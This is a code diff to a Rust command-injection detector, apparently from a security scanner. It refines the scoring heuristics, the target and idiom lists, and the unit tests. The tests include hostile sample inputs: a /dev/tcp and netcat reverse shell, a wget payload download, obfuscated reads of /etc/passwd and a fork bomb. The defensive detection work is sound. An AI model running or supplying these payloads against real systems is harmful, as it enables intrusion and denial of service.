@@ -6,90 +6,278 @@
 //! line as the whole of a short value is not.
 
 use super::evidence::{Evidence, Strongest, Texture};
-use crate::text::cursor::{each_of_ci, find_ci};
-use crate::text::shell::{Argument, Command, Invocation, Mark, each_invocation};
+use super::shell_tricks;
+use crate::text::cursor::{each_of_ci, is_space, starts_with_ci};
+use crate::text::shell::{Argument, Invocation, Mark, each_invocation};
 
 /// The strongest evidence in `text`; `idiomatic` when a word of an idiom occurs.
 pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<Evidence> {
     let mut best = Strongest::default();
-    let mut lists = None;
+    let mut place = Surroundings::new(text);
     each_invocation(text, &mut |found| {
-        if let Some((code, score)) = judge(&found, texture) {
-            let score = if is_item(text, &found, &mut lists) {
-                score.min(3500)
-            } else {
-                score
-            };
+        if let Some((code, score)) = judge(&found, &mut place, texture) {
             best.add(Evidence::new(code, score, found.start, found.end));
         }
     });
+    if !texture.is_text() {
+        shell_tricks::find_in(text, &mut best);
+    }
     if idiomatic {
         idioms(text, texture, &mut best);
     }
     best.0
 }
 
-/// So many separators of one kind make a list.
-const LIST: usize = 6;
-
-/// A word without arguments in a list, as in `a|sort|b|date|c`, is an item of
-/// it. What the text is a list by is counted once, into `lists`.
-fn is_item(text: &[u8], found: &Invocation, lists: &mut Option<[bool; 3]>) -> bool {
-    const SEPARATORS: [u8; 3] = [b';', b'|', b'&'];
-    if found.mark != Mark::Separator || found.disguised {
-        return false;
-    }
-    if !matches!(found.argument, Argument::None) {
-        return false;
-    }
-    let counted = lists.get_or_insert_with(|| {
-        SEPARATORS.map(|separator| {
-            let mut places = text.iter().filter(|b| **b == separator);
-            places.nth(LIST.saturating_sub(1)).is_some()
-        })
-    });
-    let here = text.get(found.start);
-    SEPARATORS
-        .iter()
-        .zip(counted)
-        .any(|(separator, list)| *list && here == Some(separator))
+/// What a text is a list by is counted once.
+struct Surroundings<'t> {
+    text: &'t [u8],
+    counted: Option<[usize; 3]>,
 }
 
-fn judge(found: &Invocation, texture: Texture) -> Option<(&'static str, u16)> {
+const SEPARATORS: [u8; 3] = [b';', b'|', b'&'];
+
+impl<'t> Surroundings<'t> {
+    fn new(text: &'t [u8]) -> Self {
+        let counted = None;
+        Self { text, counted }
+    }
+
+    /// How often the separator of this command separates; doubled ones count once.
+    fn separators(&mut self, found: &Invocation) -> usize {
+        let text = self.text;
+        let counted = self.counted.get_or_insert_with(|| {
+            let mut counts = [0_usize; 3];
+            let mut last = 0_u8;
+            for byte in text {
+                let which = SEPARATORS.iter().position(|s| s == byte);
+                if let Some(count) = which.and_then(|which| counts.get_mut(which))
+                    && *byte != last
+                {
+                    *count = count.saturating_add(1);
+                }
+                last = *byte;
+            }
+            counts
+        });
+        let here = text.get(found.start);
+        SEPARATORS
+            .iter()
+            .zip(counted)
+            .find(|(separator, _)| here == Some(separator))
+            .map_or(0, |(_, count)| *count)
+    }
+
+    /// What stands before it is no sentence, or it is part of a word.
+    fn is_bare(&self, found: &Invocation) -> bool {
+        let before = found.start.checked_sub(1).and_then(|at| self.text.get(at));
+        let glued = before.is_some_and(|b| !is_space(*b) && *b != b'(');
+        match found.mark {
+            Mark::Quoted => {
+                (found.bare && !before.is_some_and(|b| is_space(*b)))
+                    || (glued && !found.command.is_common() && found.command.tells())
+            }
+            _ => found.bare,
+        }
+    }
+
+    /// A word without arguments between others, as in `name|date|type`, is an
+    /// item of a list, a choice of a pattern or a column of a table.
+    fn is_item(&mut self, found: &Invocation) -> bool {
+        if found.hidden || found.rooted {
+            return false;
+        }
+        let before = self.text.get(..found.start).unwrap_or_default();
+        let near = before
+            .get(before.len().saturating_sub(64)..)
+            .unwrap_or_default();
+        // `(a|date|b)`
+        let open = near.iter().rposition(|b| *b == b'(');
+        if open.is_some_and(|open| near.get(open..).is_some_and(|t| !t.contains(&b')'))) {
+            return true;
+        }
+        // `each {|id| … }` of Ruby
+        if before.last() == Some(&b'{') {
+            return true;
+        }
+        let count = self.separators(found);
+        let first = before.len() <= 8 && !before.iter().any(u8::is_ascii_alphanumeric);
+        if first && count <= 2 {
+            return false;
+        }
+        let behind = self.text.get(found.end..).unwrap_or_default();
+        let behind = behind.trim_ascii_start();
+        let goes_on = behind.first().is_some_and(|b| SEPARATORS.contains(b))
+            && behind.iter().any(u8::is_ascii_alphanumeric);
+        if count >= 3 || goes_on {
+            return true;
+        }
+        // `name|date`; only `id` is asked for so often that it is no item
+        let glued = before.last().is_some_and(|b| !is_space(*b));
+        let name = self.text.get(found.start..found.end).unwrap_or_default();
+        found.command.is_common()
+            && glued
+            && before.len() > 2
+            && !name.ends_with(b"id")
+            && before.iter().all(|b| b.is_ascii_alphabetic() || *b == b'_')
+    }
+}
+
+fn judge(
+    found: &Invocation,
+    place: &mut Surroundings<'_>,
+    texture: Texture,
+) -> Option<(&'static str, u16)> {
     use Argument::{Flag, None as Nothing, Technical, Word};
-    let (code, in_place, in_sentence) = match (found.mark, found.command, found.argument) {
-        (Mark::Separator, Command::Plain, Flag | Technical) => {
-            ("shield.rce.separator", 8800_u16, 8000_u16)
+    // shells tell cases apart, and `cmd.exe` has no `Find`
+    let begins = found.mark == Mark::Start;
+    if found.title && (found.command.is_common() || !found.bare || begins) && !found.hidden {
+        return None;
+    }
+    let common = found.command.is_common();
+    let argued = matches!(found.argument, Flag | Technical);
+    let aims = argued && aims(place.text, found.end);
+    let (code, bare, in_sentence): (_, u16, u16) = match found.mark {
+        Mark::Separator => {
+            let (bare, in_sentence) = match (common, found.argument) {
+                (_, Nothing) if place.is_item(found) => (3500, 2500),
+                (_, Nothing) if !found.command.tells() && !found.hidden && !found.rooted => {
+                    (3500, 2500)
+                }
+                (false, Nothing) => (8200, 6500),
+                (true, Nothing) => (6500, 3500),
+                (false, Flag | Technical) => (8800, if aims { 8000 } else { 4500 }),
+                (true, Flag | Technical) => (
+                    if aims { 8000 } else { 5500 },
+                    if aims { 6000 } else { 3000 },
+                ),
+                (false, Word) => (if found.title { 3500 } else { 7500 }, 3500),
+                (true, Word) => (3500, 1500),
+            };
+            ("shield.rce.separator", bare, in_sentence)
         }
-        (Mark::Separator, Command::Plain, Nothing) => ("shield.rce.separator", 8200, 6500),
-        (Mark::Separator, Command::Plain, Word) => ("shield.rce.separator", 7500, 3500),
-        (Mark::Separator, Command::Common, Flag | Technical) => {
-            ("shield.rce.separator", 8000, 6000)
+        Mark::Substitution | Mark::Quoted => {
+            let name = place.text.get(found.start..found.end).unwrap_or_default();
+            // a variable of make, or of a script that runs what it names
+            let variable = found.argument == Nothing && !name.iter().any(u8::is_ascii_lowercase);
+            let prose = found.mark == Mark::Quoted && is_quoted(place.text, found);
+            if variable || prose {
+                return None;
+            }
+            let (bare, in_sentence) = match (common, found.argument) {
+                (_, Nothing) if !found.command.tells() && !found.hidden => (4500, 2500),
+                (false, Flag | Technical | Nothing) => (8500, if aims { 6000 } else { 4500 }),
+                (false, Word) if found.mark == Mark::Substitution => (6500, 3000),
+                (false, Word) => (4500, 3000),
+                (true, Flag | Technical) => (7500, 3500),
+                (true, Nothing) => (5500, 3000),
+                (true, Word) => return None,
+            };
+            ("shield.rce.substitution", bare, in_sentence)
         }
-        (Mark::Separator, Command::Common, Nothing) => ("shield.rce.separator", 6500, 3500),
-        (Mark::Separator, Command::Common, Word) => ("shield.rce.separator", 3500, 1500),
-        (Mark::Substitution, Command::Plain, Flag | Technical | Nothing) => {
-            ("shield.rce.substitution", 8500, 4500)
+        Mark::Line => {
+            let (bare, in_sentence) = match (common, found.argument) {
+                (false, Nothing) if found.command.tells() => (7500, 3500),
+                (false, Flag | Technical) => (if aims { 7500 } else { 4500 }, 3500),
+                (true, Flag | Technical) if aims => (6000, 3000),
+                (true, Nothing)
+                    if found.hidden || (texture.words <= 3 && found.command.tells()) =>
+                {
+                    (6000, 2500)
+                }
+                _ => return None,
+            };
+            ("shield.rce.line", bare, in_sentence)
         }
-        (Mark::Substitution, Command::Plain, Word) => ("shield.rce.substitution", 6500, 3000),
-        (Mark::Substitution, Command::Common, Flag | Technical) => {
-            ("shield.rce.substitution", 7500, 3500)
+        Mark::Start => {
+            let score = match (common, found.argument) {
+                (false, Flag | Technical) if found.hidden || found.braced => 8500,
+                (false, Nothing) if found.hidden && found.command.tells() => 7000,
+                (false, Flag | Technical) if aims => 6500,
+                (false, Flag) if found.rooted && !found.command.tells() => 5500,
+                (false, Flag) if found.command.tells() && texture.words <= 4 => 5500,
+                _ => return None,
+            };
+            ("shield.rce.command", score, score)
         }
-        (Mark::Substitution, Command::Common, Nothing) => ("shield.rce.substitution", 5500, 3000),
-        (Mark::Line, Command::Plain, Flag | Technical | Nothing) => ("shield.rce.line", 7500, 3500),
-        (Mark::Line, Command::Common, Flag | Technical) => ("shield.rce.line", 6000, 3000),
-        (Mark::Line, Command::Common, Nothing) if found.disguised || texture.words <= 3 => {
-            ("shield.rce.line", 6000, 2500)
-        }
-        (Mark::Start, Command::Plain, Flag) => ("shield.rce.command", 5500, 5500),
-        _ => return None,
     };
-    let hidden = if found.disguised { 800 } else { 0 };
-    let score = if found.bare { in_place } else { in_sentence };
+    let odd = if found.hidden { 800 } else { 0 };
+    let score = if place.is_bare(found) {
+        bare
+    } else {
+        in_sentence
+    };
     Some((
         code,
-        texture.weigh(score.saturating_add(hidden).min(9500), 3500, 2000),
+        texture.weigh(score.saturating_add(odd).min(9500), 3500, 2000),
     ))
+}
+
+/// Behind the closing quote the text goes on, as in prose about a command.
+fn is_quoted(text: &[u8], found: &Invocation) -> bool {
+    let rest = text.get(found.end..).unwrap_or_default();
+    let Some(close) = rest.iter().take(200).position(|b| *b == b'`') else {
+        return false;
+    };
+    let behind = rest.get(close.saturating_add(1)..).unwrap_or_default();
+    let prose = behind
+        .iter()
+        .take(24)
+        .filter(|b| b.is_ascii_alphabetic())
+        .count();
+    let before = text.get(..found.start).unwrap_or_default();
+    prose >= 3 || (matches!(before, [.., b' ' | b'(']) && !found.bare) || before.starts_with(b"- ")
+}
+
+/// What a command is pointed at in an attack: files of the system, hosts,
+/// devices, another shell. Reads as far as an argument reaches.
+fn aims(text: &[u8], end: usize) -> bool {
+    const TARGETS: [&[u8]; 22] = [
+        b"/etc",
+        b"/proc",
+        b"/bin",
+        b"/dev/",
+        b"/tmp",
+        b"/var/",
+        b"/root",
+        b"://",
+        b"passwd",
+        b"win.ini",
+        b"boot.ini",
+        b"c:\\",
+        b"c:/",
+        b"$(",
+        b"`",
+        b"${",
+        b"|sh",
+        b"| sh",
+        b"|bash",
+        b"| bash",
+        b"/c ",
+        b"%\\",
+    ];
+    let rest = text
+        .get(end..end.saturating_add(80).min(text.len()))
+        .unwrap_or_default();
+    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
+    let blank = line.trim_ascii_start();
+    // `ls /`, `ping 10.0.0.1`, `nslookup evil.example`, `sleep 5`
+    let word = blank.split(|b| is_space(*b)).next().unwrap_or_default();
+    let host = word.len() > 3
+        && word.contains(&b'.')
+        && word
+            .iter()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
+    let number = !word.is_empty() && word.iter().all(u8::is_ascii_digit) && blank.len() <= 4;
+    if word == b"/"
+        || number
+        || (host && blank.len() <= 64)
+        || matches!(word, [b'-', b'a'..=b'z']) && blank.len() <= 6
+    {
+        return true;
+    }
+    let mut seen = false;
+    each_of_ci(line, &TARGETS, &mut |_, _| seen = true);
+    seen
 }
 
 /// Things that are written for no other purpose: needle, code, belief in a
@@ -97,7 +285,7 @@ fn judge(found: &Invocation, texture: Texture) -> Option<(&'static str, u16)> {
 const IDIOMS: [(&[u8], &str, u16, u16); 13] = [
     (b"() {", "shield.rce.shellshock", 9500, 3000),
     (b"(){:;}", "shield.rce.shellshock", 9800, 5000),
-    (b"${ifs}", "shield.rce.substitution", 9300, 4000),
+    (b"${ifs", "shield.rce.substitution", 9300, 4000),
     (b"$ifs", "shield.rce.substitution", 8500, 3500),
     (b"/dev/tcp/", "shield.rce.reverse", 9500, 4500),
     (b"/bin/sh", "shield.rce.command", 8000, 2500),
@@ -111,18 +299,19 @@ const IDIOMS: [(&[u8], &str, u16, u16); 13] = [
 ];
 
 fn idioms(text: &[u8], texture: Texture, best: &mut Strongest) {
-    batch(text, texture, best);
     let runs = text.contains(&b'}') && text.contains(&b';');
     each_of_ci(text, &IDIOMS.map(|idiom| idiom.0), &mut |index, at| {
         let Some((needle, code, score, in_text)) = IDIOMS.get(index).copied() else {
             return;
         };
         // `() {` alone is an empty function; with a command behind `;` it is not
-        if needle == b"() {" && !(at < 4 && runs) {
+        if needle == b"() {" && !(at == 0 && runs && is_smuggled(text)) {
             return;
         }
-        // a shell's name alone is a setting
-        let score = if text.trim_ascii().len() == needle.len() && needle.starts_with(b"/") {
+        // a shell's name alone is a setting, and the first line of a script
+        let named = needle.starts_with(b"/bin/") && needle.ends_with(b"sh");
+        let prompt = needle == b"cmd.exe" && !is_started(text, at, needle.len());
+        let score = if prompt || (named && !takes_input(text, at, needle.len())) {
             4500
         } else {
             score
@@ -137,22 +326,41 @@ fn idioms(text: &[u8], texture: Texture, best: &mut Strongest) {
     });
 }
 
-/// `for %x in (…) do …`, `if exist x y` of `cmd.exe` as the whole of a value.
-fn batch(text: &[u8], texture: Texture, best: &mut Strongest) {
-    let head = text.get(..text.len().min(160)).unwrap_or_default();
-    let has = |needle| find_ci(head, needle).is_some();
-    let loops = find_ci(head, b"for ").is_some_and(|start| start < 4)
-        && head.contains(&b'%')
-        && (has(b" in (") || has(b" in("))
-        && has(b"do ");
-    if loops {
-        best.add(Evidence::new(
-            "shield.rce.command",
-            texture.weigh(7000, 2500, 1500),
-            0,
-            text.len(),
-        ));
+/// `() { :; }; …`: the body does nothing, and a command follows it.
+fn is_smuggled(text: &[u8]) -> bool {
+    let Some(close) = text.iter().position(|b| *b == b'}') else {
+        return false;
+    };
+    let body = text.get(4..close).unwrap_or_default().trim_ascii();
+    if body == b":;" {
+        return true;
     }
+    let behind = text.get(close.saturating_add(1)..).unwrap_or_default();
+    body.len() <= 40 && !body.contains(&b'\n') && behind.trim_ascii().len() > 1
+}
+
+/// `cmd.exe` with something to do, or behind nothing but a path.
+fn is_started(text: &[u8], at: usize, length: usize) -> bool {
+    let before = text.get(at.saturating_sub(200)..at).unwrap_or_default();
+    let behind = text.get(at.saturating_add(length)..).unwrap_or_default();
+    let behind = behind.trim_ascii_start();
+    matches!(behind, [b'/' | b'+' | b'<' | b'&' | b'|', ..]) || !before.iter().any(|b| is_space(*b))
+}
+
+/// `/bin/sh -i`, `-e /bin/sh`, `|/bin/sh`: the shell is given something to run.
+fn takes_input(text: &[u8], at: usize, length: usize) -> bool {
+    let before = text.get(..at).unwrap_or_default().trim_ascii_end();
+    let behind = text.get(at.saturating_add(length)..).unwrap_or_default();
+    // `/bin/shutdown`
+    if behind.first().is_some_and(u8::is_ascii_alphanumeric) {
+        return false;
+    }
+    let behind = behind.trim_ascii_start();
+    let option = starts_with_ci(behind, b"-c") || starts_with_ci(behind, b"-i");
+    // `#!` and `SHELL=` name it
+    let script = before.ends_with(b"#!") || before.ends_with(b"=") || before.ends_with(b"(");
+    let fed = before.ends_with(b"-e") || before.ends_with(b"|") || before.ends_with(b"exec");
+    (option || fed || behind.starts_with(b"<") || before.ends_with(b"$0")) && !script
 }
 
 #[cfg(test)]
@@ -176,6 +384,19 @@ mod tests {
             "x\nwhoami",
             ";cat${IFS}x",
             "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            ";id\\n",
+            "\\nid|",
+            "{cat,/etc/passwd}",
+            "c'a't /etc/passwd",
+            "/???/c?t /???/p??s??",
+            ";a=wh;b=oami;$a$b",
+            "x;$'\\x69\\x64'",
+            "who`echo am`i",
+            "cat${PATH:0:1}etc",
+            "f(){ f|f& };f",
+            "nc -e /bin/sh 10.0.0.1 4242",
+            "wget http://e.example/x.sh",
+            "8.8.8.8 && sleep 5",
         ] {
             assert!(score(text) >= 5000, "{text}");
         }
@@ -191,6 +412,22 @@ mod tests {
             "$(document).ready(function() { x(); })",
             "price|sort|cat|date|start|end|zip|x",
             "ann;cat;red;sort;big;zip;new;date",
+            "x;cat;y",
+            "a|date|b",
+            "name|date",
+            "(int|id|set)",
+            "fn as_file(&self) -> &File {",
+            "self.map.get(&id).map(|e| e)",
+            "Use `make` to build; `ls` lists files.",
+            "```bash package=x",
+            "Docs\nRead **the docs** on GitHub.",
+            "#!/bin/bash",
+            "$(MAKE) -C src",
+            "| Linux | GCC |",
+            "while ((match = re.exec(x))) { a(); }",
+            "$a = 1; $b = $a;",
+            "import x; export { default } from 'y';",
+            "grid-area: a; display: none; cut: 1",
         ] {
             assert!(score(text) < 5000, "{text}");
         }
